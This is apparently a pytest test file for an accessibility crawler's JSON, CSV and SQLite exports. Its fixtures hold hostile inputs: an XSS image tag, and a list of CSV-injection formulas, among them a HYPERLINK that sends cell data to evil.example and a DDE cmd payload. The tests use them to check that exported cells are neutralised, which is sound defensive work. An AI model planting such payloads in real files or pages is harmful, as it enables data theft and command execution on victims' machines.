"""Exports: the JSON contract, a CSV of failing elements (golden file), and a SQLite copy that
Datasette can open as it is (read-only, immutable, with a readable view)."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from reports.cli import cli as a11ycrawl
from audits.analysis.crosspage import CHECKS
from audits.errors import StoreError
from reports.data import FINDING_COLUMNS, run_document
from reports.export import export_csv
from helpers import HOSTILE_TITLE, golden, history_store

@pytest.fixture(scope="module")
def store(tmp_path_factory):
    s = history_store(tmp_path_factory.mktemp("exports") / "h.db")
    yield s
    s.close()


def export(store, *args):
    return CliRunner().invoke(a11ycrawl, ["export", "--db", store.path, *args], catch_exceptions=False)


def test_json_export_is_the_documented_contract(store):
    res = export(store, "--format", "json", "--run", "3", "-o", "-")
    assert res.exit_code == 0
    doc = json.loads(res.output)
    assert doc == json.loads(json.dumps(run_document(store, 3)))
    assert set(doc) == {"run", "pages", "broken_links", "documents", "statement", "site_checks", "third_party",
                        "score"}
    assert doc["run"]["id"] == 3 and [c["check"] for c in doc["site_checks"]] == list(CHECKS)


def test_json_export_defaults_to_the_sites_latest_complete_run(store, tmp_path):
    res = export(store, "--format", "json", "--site", "Eastmarsh Borough Council", "-o", str(tmp_path / "e.json"))
    assert res.exit_code == 0 and "run 5" in res.output
    assert json.loads((tmp_path / "e.json").read_text())["run"]["site"] == "Eastmarsh Borough Council"


def test_csv_export_has_one_row_per_failing_element(store):
    res = export(store, "--format", "csv", "--run", "3", "-o", "-")
    assert res.exit_code == 0
    assert export_csv(store, 3).endswith("\r\n")  # RFC 4180 (CliRunner's output shows "\n")
    golden("findings-run3.csv", res.output)
    rows = list(csv.DictReader(io.StringIO(res.output)))
    assert tuple(rows[0]) == FINDING_COLUMNS
    assert len(rows) == store.db.execute("select count(*) from findings where run_id = 3 and kind = 'violation'").fetchone()[0]
    hostile = next(r for r in rows if r["rule"] == "link-name")
    assert hostile["page_title"] == HOSTILE_TITLE and hostile["wcag"] == "2.4.4 4.1.2"
    assert hostile["html"] == '<img src="x" onerror="window.__pwned=2">'  # quoted by CSV, not altered


def open_like_datasette(path) -> sqlite3.Connection:
    """Datasette opens files read-only; with -i, immutable (no journal, no WAL)."""
    return sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True)


def test_sqlite_export_opens_read_only_with_a_readable_view(store, tmp_path):
    out = tmp_path / "results.db"
    res = export(store, "--format", "sqlite", "-o", str(out))
    assert res.exit_code == 0 and "every run" in res.output
    con = open_like_datasette(out)
    assert con.execute("pragma integrity_check").fetchone() == ("ok",)
    assert con.execute("pragma journal_mode").fetchone()[0] != "wal"
    assert not Path(str(out) + "-wal").exists()
    tables = {r[0] for r in con.execute("select name from sqlite_master where type in ('table', 'view')")}
    assert {"runs", "pages", "findings", "rules", "scores", "failing_elements"} <= tables
    assert con.execute("select count(*) from runs").fetchone()[0] == len(store.runs())
    row = con.execute("select site, page_url, rule from failing_elements where run_id = 3 and rule = 'link-name'").fetchone()
    assert row == ("Northbrook District Council", "https://www.northbrook.example.gov.uk/news/", "link-name")
    con.close()


def test_sqlite_export_of_one_run(store, tmp_path):
    out = tmp_path / "run3.db"
    out.write_text("an old export, replaced")
    assert export(store, "--format", "sqlite", "--run", "3", "-o", str(out)).exit_code == 0
    con = open_like_datasette(out)
    assert con.execute("select id from runs").fetchall() == [(3,)]
    for table in ("findings", "pages", "scores"):
        assert {r[0] for r in con.execute(f"select distinct run_id from {table}")} == {3}
    assert con.execute("select count(*) from rules").fetchone()[0] > 0
    con.close()
    assert len(store.runs()) == 7  # the store itself is untouched


def test_sqlite_export_needs_a_file(store):
    with pytest.raises(StoreError, match="needs a file"):
        export(store, "--format", "sqlite", "-o", "-")


# -- files: folders created, all or nothing --------------------------------------------------------

def test_exports_create_missing_folders(store, tmp_path):
    for fmt in ("csv", "json", "sqlite"):
        out = tmp_path / "new" / fmt / f"x.{fmt}"
        res = export(store, "--format", fmt, "--run", "3", "-o", str(out))
        assert res.exit_code == 0, res.output
        assert out.stat().st_size > 0
        assert [p.name for p in out.parent.iterdir()] == [out.name]  # no temporary file left


LIMIT_FILE_SIZE = """
import resource, sys
from reports.cli import main
resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))  # like a full disk: writes past 1000 bytes fail
main(sys.argv[1:])
"""


@pytest.mark.parametrize("args", [
    ["export", "--format", "csv", "--run", "3", "-o", "out/findings.csv"],
    ["export", "--format", "json", "--run", "3", "-o", "out/run.json"],
    ["report", "--run", "3", "-o", "out/report.html"],
])
def test_a_write_that_fails_names_the_file_exits_2_and_leaves_nothing(store, tmp_path, args):
    """A full disk (here: a 1000-byte file size limit, EFBIG) must not leave a 0-byte or cut file;
    an older good file stays as it was."""
    import subprocess
    import sys

    (tmp_path / "out").mkdir()
    target = tmp_path / args[-1]
    target.write_text("the previous good export\n")
    res = subprocess.run([sys.executable, "-c", LIMIT_FILE_SIZE, *args, "--db", store.path], cwd=tmp_path,
                         capture_output=True, text=True, timeout=120)
    assert res.returncode == 2, res.stderr
    assert f"a11ycrawl: error: could not write {args[-1]}: File too large" in res.stderr
    assert "Traceback" not in res.stderr
    assert target.read_text() == "the previous good export\n"
    assert [p.name for p in target.parent.iterdir()] == [target.name]


def test_write_text_is_atomic_and_keeps_the_mode(tmp_path):
    from reports.files import write_text

    path = tmp_path / "a" / "b" / "c.txt"
    write_text(path, "one\r\n", newline="")
    assert path.read_bytes() == b"one\r\n"
    os.chmod(path, 0o640)
    write_text(path, "two\n")
    assert path.read_text() == "two\n" and (path.stat().st_mode & 0o777) == 0o640


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


def test_csv_cells_from_audited_pages_are_never_formulas(tmp_path):
    """OWASP CSV injection: a page title, an element's HTML or a selector starting with a formula
    character is written with a leading single quote, so a spreadsheet shows it as text."""
    from audits.analysis.fingerprint import finding_fingerprint
    from audits.store import PageRecord, open_store
    from helpers import violation

    s = open_store(tmp_path / "f.db")
    run = s.create_run(site="=Council", start_url="https://x.example/", tool_version="0", axe_version="4.12.1",
                       config={}, config_hash="t", max_pages=10)
    for i, text in enumerate(FORMULAS):
        s.save_page(run, PageRecord(url=f"https://x.example/{i}", status="audited", title=text,
                                    violations=[violation("image-alt", html=text)]), fingerprint=finding_fingerprint)
    s.finish_run(run, "complete")
    rows = list(csv.DictReader(io.StringIO(export_csv(s, run), newline="")))
    s.close()
    assert len(rows) == len(FORMULAS)
    assert {r["site"] for r in rows} == {"'=Council"}
    assert sorted(r["page_title"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert sorted(r["html"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert all(r["page_url"].startswith("https://") and r["rule"] == "image-alt" for r in rows)  # the rest untouched


def test_csv_keeps_ordinary_text_as_it_is():
    from reports.export import csv_cell

    for text in ["Home - Council", "<img src=x>", "a=b", "1.1.1", "", "'quoted"]:
        assert csv_cell(text) == text
    assert csv_cell(3) == 3 and csv_cell(None) is None
